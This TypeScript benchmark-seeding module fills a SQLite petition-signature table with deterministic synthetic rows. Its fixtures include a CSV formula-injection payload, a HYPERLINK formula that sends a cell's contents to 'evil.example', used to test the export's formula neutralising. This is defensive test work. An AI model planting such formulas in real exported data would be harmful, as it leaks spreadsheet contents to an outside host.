// Seeding for tests/bench/export-signatures.ts: `count` realistic signatures written straight into a
// SQLite file already migrated with the project's migrations, with better-sqlite3 (one prepared INSERT,
// one transaction). Setup, not the thing measured. Deterministic apart from the dates: the same
// count gives the same rows, signed over the 90 days before the run.
//
// The rows look like a campaign's: mostly confirmed (nothing unconfirmed older than the 30 days the
// retention sweep allows), mostly England, a spread of other countries, signed over the last 90 days
// (with bursts of identical timestamps, so the export's (createdAt, id) keyset has ties to break), and written the way the app's Prisma adapter writes them (ISO 8601 with "+00:00",
// booleans as 0/1). A few rows carry names the sign-up form would refuse, inserted directly as legacy or
// imported data might be: commas, double quotes, a line break, non-ASCII, and formula starts (= + - @,
// full-width ＝), so the export's quoting and formula neutralising run on real volumes.
import Database from "better-sqlite3";

/** Rows inserted with awkward names, each with a known id, so the output can be checked for them. */
export const specialRows = [
  { id: "00000000-0000-4000-8000-000000000001", name: "Smith, Jane" },
  { id: "00000000-0000-4000-8000-000000000002", name: 'Jane "JJ" Doe' },
  { id: "00000000-0000-4000-8000-000000000003", name: "Siân Llŷr-Öztürk 李小龍" },
  { id: "00000000-0000-4000-8000-000000000004", name: '=HYPERLINK("https://evil.example?"&A1,"x")' },
  { id: "00000000-0000-4000-8000-000000000005", name: "+44 7700 900123" },
  { id: "00000000-0000-4000-8000-000000000006", name: "-Ann" },
  { id: "00000000-0000-4000-8000-000000000007", name: "@mention" },
  { id: "00000000-0000-4000-8000-000000000008", name: "＝SUM(1+1)" },
  { id: "00000000-0000-4000-8000-000000000009", name: "Line one\r\nline two" },
] as const;

/** How each special name must appear as a CSV cell (formula starts get a leading apostrophe). */
export function expectedCell(name: string): string {
  const safe = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(name) ? `'${name}` : name;
  return /[",\r\n]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
}

// mulberry32: small, fast, good enough to spread synthetic data.
function prng(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const firstNames = [
  "Olivia",
  "Amelia",
  "Isla",
  "Ava",
  "Mia",
  "Grace",
  "Freya",
  "Lily",
  "Emily",
  "Sophie",
  "Jessica",
  "Hannah",
  "Sarah",
  "Rebecca",
  "Laura",
  "Claire",
  "Karen",
  "Susan",
  "Margaret",
  "Helen",
  "Ruth",
  "Anne",
  "Fiona",
  "Catriona",
  "Eilidh",
  "Mhairi",
  "Rhiannon",
  "Cerys",
  "Ffion",
  "Niamh",
  "Aoife",
  "Siobhán",
  "Zoë",
  "Chloé",
  "Renée",
  "Anaïs",
  "Małgorzata",
  "Agnieszka",
  "Zuzana",
  "Priya",
  "Aisha",
  "Fatima",
  "Mei",
  "Yuki",
  "Amara",
  "Ngozi",
  "Ayşe",
  "Björk",
  "Inés",
  "João",
  "David",
  "James",
  "Peter",
  "Mohammed",
];
const lastNames = [
  "Smith",
  "Jones",
  "Williams",
  "Taylor",
  "Brown",
  "Davies",
  "Evans",
  "Wilson",
  "Thomas",
  "Roberts",
  "Johnson",
  "Lewis",
  "Walker",
  "Robinson",
  "Wood",
  "Thompson",
  "White",
  "Watson",
  "Jackson",
  "Wright",
  "Green",
  "Harris",
  "Cooper",
  "King",
  "Lee",
  "Martin",
  "Clarke",
  "James",
  "Morgan",
  "Hughes",
  "Edwards",
  "Hill",
  "Moore",
  "Clark",
  "Harrison",
  "Scott",
  "Young",
  "Morris",
  "Hall",
  "Ward",
  "Turner",
  "Carter",
  "MacDonald",
  "Campbell",
  "Stewart",
  "O'Brien",
  "O'Neill",
  "McLaughlin",
  "Ní Bhriain",
  "ap Gwilym",
  "Llywelyn",
  "Nowak",
  "Kowalska",
  "Müller",
  "García",
  "Núñez",
  "Nguyễn",
  "Patel",
  "Khan",
  "Okafor",
];
const domains = ["example.org", "example.com", "example.net", "mail.example", "post.example"];
const otherCountries = ["IE", "FR", "DE", "ES", "NL", "US", "CA", "AU", "NZ", "PL", "IT", "PT", "IN", "ZA"];
const consentVersions = ["2026-09", "2026-10", "2026-11"];

const DAY_MS = 86_400_000;

/** The adapter's DateTime format for SQLite (@prisma/adapter-better-sqlite3, timestampFormat iso8601). */
const sqliteTime = (ms: number) => new Date(ms).toISOString().replace("Z", "+00:00");

export type SeedResult = { rows: number; seconds: number; statuses: Record<string, number> };

/** Inserts `count` signatures into the (migrated, empty) Signature table of `file`. */
export function seedSignatures(file: string, count: number, options: { now?: number } = {}): SeedResult {
  const started = performance.now();
  const random = prng(20261125);
  const pick = <T>(list: readonly T[]) => list[Math.floor(random() * list.length)]!;
  const hex = (digits: number) => {
    let out = "";
    while (out.length < digits)
      out += Math.floor(random() * 0x100000000)
        .toString(16)
        .padStart(8, "0");
    return out.slice(0, digits);
  };
  const uuid = () => {
    const h = hex(32);
    return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${"89ab"[Math.floor(random() * 4)]}${h.slice(17, 20)}-${h.slice(20, 32)}`;
  };

  const db = new Database(file);
  // Bulk load: no journal, no fsync. The app's own connection switches the file to WAL when it opens it.
  db.pragma("journal_mode = OFF");
  db.pragma("synchronous = OFF");
  db.pragma("cache_size = -262144"); // 256 MiB page cache while the indexes grow
  const insert = db.prepare(
    `INSERT INTO "Signature" ("id","name","email","emailKey","nation","country","status","campaignEmails",
       "consentVersion","consentAt","clientHash","createdAt","confirmedAt","confirmedOn","repeatEmailCount")
     VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)`,
  );
  const now = options.now ?? Date.now() - 60_000;
  const start = now - 90 * DAY_MS;
  const statuses: Record<string, number> = {};

  const insertAll = db.transaction(() => {
    let createdAt = start;
    const step = (90 * DAY_MS) / Math.max(1, count);
    for (let n = 0; n < count; n += 1) {
      // Mostly increasing, jittered; about 1 in 50 rows shares the previous row's millisecond.
      if (random() >= 0.02) createdAt = Math.round(start + n * step + random() * step);
      const special = n < specialRows.length ? specialRows[n] : undefined;
      const first = pick(firstNames);
      const last = pick(lastNames);
      const name =
        special?.name ?? (random() < 0.1 ? `${first} ${pick(lastNames)}-${last}` : `${first} ${last}`);
      const local = `${first}.${last}`.toLowerCase().replace(/[^a-z0-9.]/g, "");
      const email = `${local || "supporter"}.${n}@${pick(domains)}`;

      const r = random();
      const nation =
        r < 0.7
          ? "england"
          : r < 0.82
            ? "scotland"
            : r < 0.89
              ? "wales"
              : r < 0.93
                ? "northern-ireland"
                : "other";
      const country = nation === "other" ? pick(otherCountries) : "GB";
      // Unconfirmed rows older than 30 days are gone (the retention sweep, lib/pledge/retention.ts; `next
      // start` runs it at start-up). A day's margin, so a sweep minutes later deletes nothing.
      const s = createdAt < now - 29 * DAY_MS ? 0 : random();
      const status = s < 0.8 ? "confirmed" : s < 0.96 ? "pending" : "held";
      statuses[status] = (statuses[status] ?? 0) + 1;
      const confirmed =
        status === "confirmed" ? createdAt + Math.round(60_000 + random() * 2 * DAY_MS) : null;

      insert.run(
        special?.id ?? uuid(),
        name,
        email,
        email.toLowerCase(),
        nation,
        country,
        status,
        random() < 0.4 ? 1 : 0,
        pick(consentVersions),
        sqliteTime(createdAt),
        hex(64),
        sqliteTime(createdAt),
        confirmed === null ? null : sqliteTime(confirmed),
        confirmed === null ? null : new Date(confirmed).toISOString().slice(0, 10),
        0,
      );
    }
  });
  try {
    insertAll();
    db.pragma("journal_mode = WAL");
  } finally {
    db.close();
  }
  return { rows: count, seconds: (performance.now() - started) / 1000, statuses };
}
